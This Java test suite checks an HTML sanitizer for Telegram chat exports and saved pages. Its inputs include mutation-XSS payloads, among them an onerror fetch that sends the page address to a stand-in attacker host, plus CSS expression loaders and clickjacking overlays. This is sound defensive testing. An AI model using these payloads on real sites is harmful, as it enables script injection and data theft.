package org.sandyq.sanitizer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.sandyq.sanitizer.RefusedFileException.Kind;

/**
 * Web pages, as Telegram Desktop exports a chat ({@code messages.html} with its photos beside it)
 * and as a browser saves one: the text, its structure, its own pictures and clickable links kept;
 * scripts, whatever loads from an address, metadata and comments gone. Read back by Python's own
 * HTML parser and exiftool, neither of which the cleaner uses.
 */
class HtmlTest {
  private static final Sanitizer SANITIZER = new Sanitizer();
  private static final String MARK = Corpus.MARK;
  private static final String EVIL = "198.51.100.7";
  static final String TEXT = Corpus.HTML_TEXT;

  static String telegramPage() {
    return Corpus.html();
  }

  @Test
  void aTelegramExportKeepsItsTextPicturesAndLinksAndNothingThatLoadsOrRuns(@TempDir Path dir) throws Exception {
    byte[] in = telegramPage().getBytes(StandardCharsets.UTF_8);
    assertEquals("text/html", SANITIZER.detect(in));
    Path file = Files.write(dir.resolve("messages.html"), in);
    FileReport r = SANITIZER.clean(file, Files.createDirectories(dir.resolve("out")), 1);
    assertEquals("file-1.html", r.outputName());
    Path cleanedFile = dir.resolve("out").resolve(r.outputName());
    String out = Files.readString(cleanedFile);
    assertFalse(out.contains(MARK), out);
    assertFalse(out.contains(EVIL), out);
    assertFalse(out.replace(">script<", "").toLowerCase(java.util.Locale.ROOT).contains("script"), out);
    for (String kept : List.of(TEXT, "Бригадир", "href=\"photos/photo_1@02-11-2026_14-32-11.jpg\"",
        "src=\"photos/photo_1@02-11-2026_14-32-11_thumb.jpg\"", "style=\"width: 260px; height: 195px\"",
        "href=\"#go_to_message122\"", "href=\"https://t.me/boss_stroy\"",
        "title=\"02.11.2026 14:32:11\"", "EVIDENCE-styled", "EVIDENCE-cell", "EVIDENCE-button",
        "<title>Exported Data</title>", "<meta charset=\"utf-8\">")) {
      assertTrue(out.contains(kept), kept + " in " + out);
    }
    assertTrue(r.kept().contains("clickable link kept (opens only when clicked): https://t.me/boss_stroy"), r.kept().toString());
    for (String removed : List.of("scripts, event handlers", "addresses loaded when the page is shown", "the page's own metadata",
        "comments in the page", "style sheets, and styles", "forms (", "links to local files", "other attributes",
        "the time zone of the computer")) {
      assertTrue(r.removed().stream().anyMatch(x -> x.startsWith(removed)), removed + " in " + r.removed());
    }
    // the picture inside the page: the same pixels, no camera, no GPS
    java.util.regex.Matcher inline = java.util.regex.Pattern.compile("src=\"data:image/jpeg;base64,([^\"]+)\"").matcher(out);
    assertTrue(inline.find(), out);
    byte[] picture = Base64.getDecoder().decode(inline.group(1));
    CorpusTest.assertSamePixels(Corpus.jpeg(), picture, 0);
    assertEquals(java.util.Set.of(), Views.markers(picture));
    // cleaned again: the same bytes, nothing more to remove
    FileReport again = SANITIZER.clean(cleanedFile, Files.createDirectories(dir.resolve("again")), 2);
    assertEquals(out, Files.readString(dir.resolve("again").resolve(again.outputName())));
    assertEquals(List.of("the original file name"), again.removed());
    // read by another parser: only the kept elements, no handler, only addresses of the page's own or a click's
    assumeTrue(Readers.has("python3", "--version"), "python3 is not installed");
    String check = """
        import sys
        from html.parser import HTMLParser
        ok = {'html','head','body','title','meta','style','div','span','a','img','table','tbody','tr','td','button'}
        bad = []
        class P(HTMLParser):
            def handle_starttag(self, tag, attrs):
                if tag not in ok: bad.append('tag ' + tag)
                for k, v in attrs:
                    v = v or ''
                    if k.startswith('on'): bad.append('handler ' + k)
                    if k in ('href', 'src') and not (v.startswith('#') or v.startswith('https://') or v.startswith('photos/')
                            or v.startswith('data:image/jpeg;base64,')): bad.append(k + '=' + v[:60])
            def handle_comment(self, data): bad.append('comment')
        P().feed(open(sys.argv[1], encoding='utf-8').read())
        print('\\n'.join(bad))
        """;
    Path script = Files.writeString(dir.resolve("check.py"), check);
    assertEquals("", run("python3", script.toString(), cleanedFile.toString()).strip());
    if (Oracle.available()) {
      String tags = run("exiftool", "-s", "-G1", "-HTML:all", cleanedFile.toString());
      assertFalse(tags.contains("Author") || tags.contains("Generator") || tags.contains(MARK), tags);
    }
  }

  private static String run(String... command) throws Exception {
    Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertTrue(p.waitFor(60, TimeUnit.SECONDS));
    return out;
  }

  private static String cleaned(String page) throws Exception {
    Sanitizer.Cleaned c = SANITIZER.clean(page.getBytes(StandardCharsets.UTF_8), "p.html", 1);
    String out = new String(c.bytes(), StandardCharsets.UTF_8);
    Sanitizer.Cleaned again = SANITIZER.clean(c.bytes(), "again.html", 2);
    assertEquals(out, new String(again.bytes(), StandardCharsets.UTF_8), "cleaned again, the same");
    assertEquals(List.of("the original file name"), again.report().removed());
    return out;
  }

  /**
   * Found by a review with Chromium as the reader. jsoup keeps the inside of {@code <xmp>} as raw
   * data and wrote it out unescaped, as markup; read with scripting on (as every browser reads a
   * page), a {@code </noscript>} inside an attribute then closed a fallback the cleaner never saw,
   * and a picture's error handler ran and called the attacker. Raw text is now written as text.
   */
  @Test
  void rawTextIsWrittenAsTextNeverAsMarkup() throws Exception {
    for (String page : List.of(
        "<!DOCTYPE html><p>EVIDENCE</p><xmp><noscript><p title=\"</noscript><img src=http://" + EVIL
            + "/x onerror=fetch('http://" + EVIL + "/'+location.href)>\"></xmp>",
        "<!DOCTYPE html><table><tr><td>EVIDENCE</td></tr><xmp><img src=http://" + EVIL + "/t></xmp></table>",
        "<!DOCTYPE html><p>EVIDENCE</p><plaintext><img src=http://" + EVIL + "/p>",
        "<!DOCTYPE html><head><noscript><link rel=stylesheet href=http://" + EVIL + "/n.css></noscript></head><p>EVIDENCE</p>",
        "<!DOCTYPE html><p>EVIDENCE</p><noscript><img src=http://" + EVIL + "/n2></noscript>")) {
      String out = cleaned(page);
      assertTrue(out.contains("EVIDENCE"), out);
      // what was raw text is now text (&lt;img …), and no element loads anything
      assertFalse(out.contains("<img src") || out.contains("<noscript") || out.contains("<link") || out.contains("<xmp")
          || out.contains("<plaintext"), out);
    }
  }

  /** An invisible link stretched over the page would turn a click anywhere into a visit: its placing goes. */
  @Test
  void nothingIsLaidOverThePage() throws Exception {
    String out = cleaned("<!DOCTYPE html><p>EVIDENCE</p><a href=\"https://example.org/x\" style=\"position:fixed;top:0;left:0;"
        + "width:100%;height:100%;z-index:99;opacity:0\">.</a><style>a{position:absolute;inset:0}</style>"
        + "<div style=\"color: red\">EVIDENCE-red</div>");
    assertFalse(out.contains("position") || out.contains("opacity") || out.contains("inset"), out);
    assertTrue(out.contains("<div style=\"color: red\">EVIDENCE-red</div>"), out);
    // and found by the second review: a grid's placement or a negative margin lays one thing over
    // another as well; only properties that size and colour the flow stay
    out = cleaned("<!DOCTYPE html><body style=\"display:grid;margin:0;min-height:100vh\"><div style=\"grid-area:1/1\">"
        + "<p>EVIDENCE</p></div><a href=\"https://example.org/t\" style=\"grid-area:1/1\"></a>"
        + "<div style=\"display:flex\"><a href=\"https://example.org/u\" style=\"margin-left:-100%;width:100%\">x</a></div>"
        + "<p style=\"font-weight: bold; background: url(x); COLOR: #333 !important\">EVIDENCE-bold</p>");
    assertFalse(out.contains("grid") || out.contains("flex") || out.contains("-100%") || out.contains("url"), out);
    assertTrue(out.contains("<body style=\"margin: 0; min-height: 100vh\">") && out.contains("style=\"width: 100%\"")
        && out.contains("<p style=\"font-weight: bold; color: #333 !important\">EVIDENCE-bold</p>"), out);
  }

  /**
   * Many elements to take out or rename, side by side, in one linear pass each (taking jsoup's
   * nodes out one by one re-indexed their siblings every time: 800,000 unknown elements took longer
   * than ten minutes); a form in a table's rows, a doctype's address, a path through a drive.
   */
  @Test
  void manyElementsAndOddStructures() throws Exception {
    String out = cleaned("<!DOCTYPE html><p>EVIDENCE</p>" + "<x></x>".repeat(200_000) + "<script></script>".repeat(200_000));
    assertTrue(out.contains("EVIDENCE") && !out.contains("script") && out.contains("<span></span>"));
    out = cleaned("<!DOCTYPE html SYSTEM \"http://" + EVIL + "/dtd\"><table><form action=\"http://" + EVIL + "/f\"><tr><td>EVIDENCE"
        + "</td></tr></form></table><a href=\"C|/Windows/win.ini\">drive</a>");
    assertTrue(out.startsWith("<!doctype html>") && out.contains("<td>EVIDENCE</td>") && !out.contains(EVIL)
        && out.contains("<a>drive</a>"), out);
  }
  /**
   * Also from the second review: ordinary pages that renaming made change when cleaned again (a
   * lazy-loading picture's fallback inside a paragraph, a fallback among a table's rows, old
   * elements in the head), a UTF-16 declaration (which the HTML standard reads as UTF-8), a
   * picture inside the page that cannot be read (it goes, not the page).
   */
  @Test
  void ordinaryPagesStayStable() throws Exception {
    String out = cleaned("<!DOCTYPE html><p>Team photo: <img data-lazy-src=x.jpg><noscript><img src=\"photos/a.jpg\"></noscript>"
        + " taken in May.</p><table><tr><td>1</td><noscript><td>2</td></noscript></tr></table>");
    assertTrue(out.contains("<p>Team photo: <img><span><img src=\"photos/a.jpg\"></span> taken in May.</p>"), out);
    out = cleaned("<!DOCTYPE html><html><head><basefont size=3><bgsound src=x.wav><title>EVIDENCE</title></head><body>x</body>");
    assertTrue(out.contains("<title>EVIDENCE</title>") && !out.contains("basefont") && !out.contains("bgsound"), out);
    byte[] sixteen = ("<!DOCTYPE html><style>" + "p{color:red}".repeat(600) + "</style><meta charset=\"utf-16le\"><p>Caf\u00e9</p>")
        .getBytes(StandardCharsets.ISO_8859_1);
    RefusedFileException e = assertThrows(RefusedFileException.class, () -> SANITIZER.clean(sixteen, "p.html", 1));
    assertEquals(Kind.UNSUPPORTED_VARIANT, e.kind());
    byte[] cut = java.util.Arrays.copyOf(Corpus.jpeg(), 300);
    out = cleaned("<!DOCTYPE html><p>EVIDENCE</p><img alt=a src=\"data:image/jpeg;base64," + Base64.getEncoder().encodeToString(cut) + "\">");
    assertTrue(out.contains("<p>EVIDENCE</p><img alt=\"a\">"), out);
  }

  /** A page in windows-1251 that says so is read right and written as UTF-8; one that does not is refused. */
  @Test
  void aPageInACodePageIsReadAsItSays() throws Exception {
    String page = "<!DOCTYPE html><html><head><meta charset=\"windows-1251\"><title>Зарплата</title></head>"
        + "<body><p>" + TEXT + "</p></body></html>";
    Sanitizer.Cleaned c = SANITIZER.clean(page.getBytes("windows-1251"), "page.html", 1);
    String out = new String(c.bytes(), StandardCharsets.UTF_8);
    assertTrue(out.contains("<p>" + TEXT + "</p>") && out.contains("<meta charset=\"utf-8\">")
        && !out.contains("windows-1251"), out);
    // declared after more than jsoup's first look (a long style first, as older pages have)
    String late = page.replace("<meta charset=\"windows-1251\">", "<style>" + "p{color:red}\n".repeat(600) + "</style>"
        + "<meta charset=\"windows-1251\">");
    out = new String(SANITIZER.clean(late.getBytes("windows-1251"), "page.html", 1).bytes(), StandardCharsets.UTF_8);
    assertTrue(out.contains("<p>" + TEXT + "</p>"), out);
    byte[] undeclared = page.replace("<meta charset=\"windows-1251\">", "").getBytes("windows-1251");
    RefusedFileException e = assertThrows(RefusedFileException.class, () -> SANITIZER.clean(undeclared, "page.html", 1));
    assertEquals(Kind.UNSUPPORTED_VARIANT, e.kind());
    assertEquals(WayOut.SAVE_AS_DOCUMENT, e.wayOut());
  }

  /** Styles: what can only colour and place text stays; what can load or run goes, the text it styled stays. */
  @Test
  void stylesThatCouldLoadOrRunGo() throws Exception {
    for (String bad : List.of("background:url(x.png)", "background:u\\72l(http://x)", "width:expression(alert(1))",
        "behavior:url(x.htc)", "-moz-binding:url(x.xml#a)", "background-image:image-set('x.png' 1x)",
        "content:src(\"x\")")) {
      String out = new String(SANITIZER.clean(("<!DOCTYPE html><p style=\"" + bad.replace("\"", "&quot;") + "\">EVIDENCE</p>"
          + "<style>p{" + bad + "}</style><style>@import 'x.css';</style><style>@font-face{font-family:a}</style>")
          .getBytes(StandardCharsets.UTF_8), "p.html", 1).bytes(), StandardCharsets.UTF_8);
      assertFalse(out.contains("style"), bad + " -> " + out);
      assertTrue(out.contains("<p>EVIDENCE</p>"), out);
    }
  }

  /** A page nested deeper than any stack is walked, not recursed into; a page over the limit is refused. */
  @Test
  void deepAndLargePagesAreBounded() throws Exception {
    String deep = "<!DOCTYPE html><body>" + "<div>".repeat(200_000) + "EVIDENCE" + "</div>".repeat(200_000);
    try {
      Sanitizer.Cleaned c = SANITIZER.clean(deep.getBytes(StandardCharsets.UTF_8), "deep.html", 1);
      assertTrue(new String(c.bytes(), StandardCharsets.UTF_8).contains("EVIDENCE"));
    } catch (RefusedFileException refused) {
      assertEquals(Kind.BEYOND_LIMITS, refused.kind(), refused.getMessage());
    }
    byte[] large = ("<!DOCTYPE html><p>" + "x".repeat(17 << 20)).getBytes(StandardCharsets.US_ASCII);
    RefusedFileException e = assertThrows(RefusedFileException.class, () -> SANITIZER.clean(large, "large.html", 1));
    assertEquals(Kind.BEYOND_LIMITS, e.kind());
  }

  /**
   * Telegram Desktop's export zipped: the page cleaned, its script and style sheet kept only as text
   * (.txt added: they neither run nor style any more), the photos cleaned, every name kept.
   */
  @Test
  void aZippedTelegramExportIsCleanedWhole(@TempDir Path dir) throws Exception {
    byte[] zip = Corpus.zip(false, new String[][] {
        {"ChatExport_2026-11-02/messages.html", telegramPage()},
        {"ChatExport_2026-11-02/css/style.css", ".page_wrap { background-color: #ffffff; }\n"},
        {"ChatExport_2026-11-02/js/script.js", "\"use strict\";\nfunction CheckLocation() { return true; }\n"},
        {"ChatExport_2026-11-02/photos/photo_1@02-11-2026_14-32-11.jpg", Corpus.b64(Corpus.jpeg())},
        {"ChatExport_2026-11-02/images/back.png", Corpus.b64(Corpus.png())}});
    Sanitizer.Cleaned c = SANITIZER.clean(zip, "ChatExport_2026-11-02.zip", 1);
    List<String> names = new java.util.ArrayList<>();
    try (java.util.zip.ZipInputStream z = new java.util.zip.ZipInputStream(new java.io.ByteArrayInputStream(c.bytes()))) {
      for (java.util.zip.ZipEntry e; (e = z.getNextEntry()) != null; ) {
        names.add(e.getName());
        if (e.getName().endsWith("messages.html")) {
          String page = new String(z.readAllBytes(), StandardCharsets.UTF_8);
          assertTrue(page.contains(TEXT) && !page.contains(EVIL), page);
        }
      }
    }
    assertEquals(List.of("ChatExport_2026-11-02/messages.html", "ChatExport_2026-11-02/css/style.css.txt",
        "ChatExport_2026-11-02/js/script.js.txt", "ChatExport_2026-11-02/photos/photo_1@02-11-2026_14-32-11.jpg",
        "ChatExport_2026-11-02/images/back.png"), names);
    assertEquals(java.util.Set.of(), Views.markers(c.bytes()));
  }

  /**
   * Telegram Desktop's export with its stickers: an animated sticker ({@code .tgs}, a gzipped
   * Lottie animation, which can name a picture at an address and hold expressions a player runs)
   * is left out of the archive and reported; a picture beside it and a still sticker (WebP) are
   * cleaned and kept. Alone, an animated sticker is refused with a screenshot as the way
   * out; a gzip that is no sticker (or whose animation lies past what is read to name it) still
   * refuses the archive.
   */
  @Test
  void aTelegramExportsAnimatedStickersAreLeftOut() throws Exception {
    String lottie = "{\"tgs\":1,\"v\":\"5.5.2\",\"fr\":60,\"ip\":0,\"op\":180,\"w\":512,\"h\":512,\"nm\":\""
        + "Aibek's pack" + "\",\"meta\":{\"a\":\"" + "aibek.k" + "\"},\"assets\":[{\"id\":\"i\","
        + "\"u\":\"https://198.51.100.7/\",\"p\":\"beacon.png\"}],\"layers\":[{\"ty\":4,\"ks\":{\"x\":\"eval(1)\"}}]}";
    byte[] tgs = gzip(lottie.getBytes(StandardCharsets.UTF_8));
    String folder = "ChatExport_2026-11-02/stickers/";
    byte[] zip = Corpus.zip(false, new String[][] {
        {"ChatExport_2026-11-02/messages.html", telegramPage()},
        {folder + "AnimatedSticker.tgs", "BYTES:" + java.util.Base64.getEncoder().encodeToString(tgs)},
        {folder + "AnimatedSticker.tgs_thumb.png", Corpus.b64(Corpus.png())},
        {folder + "sticker.webp", Corpus.b64(Corpus.webp())}});
    Sanitizer.Cleaned c = SANITIZER.clean(zip, "ChatExport_2026-11-02.zip", 1);
    List<String> names = new java.util.ArrayList<>();
    try (java.util.zip.ZipInputStream z = new java.util.zip.ZipInputStream(new java.io.ByteArrayInputStream(c.bytes()))) {
      for (java.util.zip.ZipEntry e; (e = z.getNextEntry()) != null; ) {
        names.add(e.getName());
      }
    }
    assertEquals(List.of("ChatExport_2026-11-02/messages.html", folder + "AnimatedSticker.tgs_thumb.png",
        folder + "sticker.webp"), names);
    assertTrue(c.report().removed().contains(org.sandyq.sanitizer.format.Archive.STICKERS), c.report().removed().toString());
    assertEquals(java.util.Set.of(), Views.markers(c.bytes()));
    String inCopy = new String(c.bytes(), StandardCharsets.ISO_8859_1);
    assertFalse(inCopy.contains("198.51.100.7") || inCopy.contains("aibek.k"), "the sticker's address and author");

    UnsupportedFileTypeException alone = assertThrows(UnsupportedFileTypeException.class,
        () -> SANITIZER.clean(tgs, "AnimatedSticker.tgs", 1));
    assertEquals(org.sandyq.sanitizer.format.Formats.STICKER, alone.detectedType());
    assertEquals(WayOut.SCREENSHOT, alone.wayOut());

    // not stickers: a gzip of text, an animation without Telegram's field, one past the window read
    byte[] padded = gzip(("{\"layers\":[]," + " ".repeat(2 << 20) + "\"tgs\":1}").getBytes(StandardCharsets.UTF_8));
    for (byte[] gz : List.of(gzip("the foreman's list\n".getBytes(StandardCharsets.UTF_8)),
        gzip("{\"v\":\"5.5.2\",\"layers\":[]}".getBytes(StandardCharsets.UTF_8)), padded)) {
      assertEquals("application/gzip", SANITIZER.detect(gz));
      byte[] archive = Corpus.zip(false, new String[][] {
          {"messages.html", telegramPage()}, {"stickers/sticker.tgs", "BYTES:" + java.util.Base64.getEncoder().encodeToString(gz)}});
      RefusedFileException e = assertThrows(RefusedFileException.class, () -> SANITIZER.clean(archive, "export.zip", 1));
      assertTrue(e.getMessage().contains("stickers/sticker.tgs"), e.getMessage());
    }
  }

  /**
   * Telegram Desktop's export of a whole account as pages: the first page's account block (names,
   * phone number, user name, biography) and the lists (contacts' numbers, the addresses and devices
   * of sessions) go; a chat's page keeps its messages, and every sender's initials lose the colour
   * Telegram works out from their account id.
   */
  @Test
  void aTelegramAccountExportsOwnDataGoes() throws Exception {
    String results = "<!DOCTYPE html><html><head><meta charset=\"utf-8\"/><title>Exported Data</title></head><body>"
        + "<div class=\"page_wrap\"><div class=\"page_body\"><div class=\"personal_info clearfix\">"
        + "<div class=\"pull_right userpic_wrap\"><div class=\"userpic userpic4\"><div class=\"initials\">A</div></div></div>"
        + "<div class=\"rows names\"><div class=\"row\"><div class=\"label details\">Phone number</div>"
        + "<div class=\"value bold\">+996 555 123 456</div></div><div class=\"row\"><div class=\"label details\">Username"
        + "</div><div class=\"value bold\">@aibek_k</div></div></div><div class=\"rows bio\">Osh</div></div>"
        + "<div class=\"sections with_divider\"><a class=\"section block_link chats\" href=\"lists/chats.html\">"
        + "<div class=\"counter details\">12</div><div class=\"label bold\">Chats</div></a></div></div></div></body></html>";
    String sessions = "<!DOCTYPE html><html><head><meta charset=\"utf-8\"/></head><body><div class=\"page_wrap\">"
        + "<div class=\"page_body list_page\"><div class=\"entry_list\"><div class=\"entry clearfix\"><div class=\"body\">"
        + "<div class=\"name bold\">Telegram Desktop 5.9</div><div class=\"subname bold\">Redmi 9, Windows 10</div>"
        + "<div class=\"details_entry details\">203.0.113.9 – Moscow, Russia</div></div></div></div></div></div></body></html>";
    for (String page : List.of(results, sessions)) {
      Sanitizer.Cleaned c = SANITIZER.clean(page.getBytes(StandardCharsets.UTF_8), "export_results.html", 1);
      String out = new String(c.bytes(), StandardCharsets.UTF_8);
      for (String gone : List.of("555 123 456", "aibek_k", "Osh", "203.0.113.9", "Redmi", "userpic4")) {
        assertFalse(out.contains(gone), gone + " in\n" + out);
      }
      assertTrue(c.report().removed().contains(org.sandyq.sanitizer.format.TelegramChat.ACCOUNT_DATA), c.report().removed().toString());
    }
    String chat = new String(SANITIZER.clean(telegramPage().replace("userpic userpic2", "userpic userpic7 x")
        .getBytes(StandardCharsets.UTF_8), "messages.html", 1).bytes(), StandardCharsets.UTF_8);
    assertTrue(chat.contains(TEXT) && chat.contains("class=\"userpic x\"") && !chat.contains("userpic7"), chat);
  }

  private static byte[] gzip(byte[] data) throws java.io.IOException {
    java.io.ByteArrayOutputStream o = new java.io.ByteArrayOutputStream();
    try (java.util.zip.GZIPOutputStream z = new java.util.zip.GZIPOutputStream(o)) {
      z.write(data);
    }
    return o.toByteArray();
  }
}
